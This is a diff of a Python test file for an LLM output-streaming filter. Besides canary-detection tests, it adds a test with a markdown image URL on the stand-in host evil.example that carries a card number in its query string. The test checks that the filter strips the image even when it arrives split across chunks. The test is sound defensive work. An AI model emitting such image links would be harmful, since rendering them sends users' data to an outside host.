@@ -31,3 +31,17 @@ def test_a_split_canary_is_caught_before_any_of_it_is_shown() -> None:
 def test_case_changes_do_not_hide_it() -> None:
     out, watch = run(["LOUD: ", CANARY.upper(), " rest"])
     assert watch.hit and out == "LOUD: "
+
+
+def test_remote_images_never_reach_the_client_even_split_over_pieces() -> None:
+    from switchboard_llm_stream.domain.images import ImageFilter
+
+    text = ('Status: ![ok](https://evil.example/p.png?d=card%204111) done! '
+            'See [the agenda](https://intranet.example/agenda) !')
+    for size in (1, 3, 7, len(text)):
+        images = ImageFilter()
+        pieces = [text[i:i + size] for i in range(0, len(text), size)]
+        out = "".join(images.feed(p) for p in pieces) + images.flush()
+        assert out == ("Status: [image: ok] done! "
+                       "See [the agenda](https://intranet.example/agenda) !")
+        assert images.removed == 1
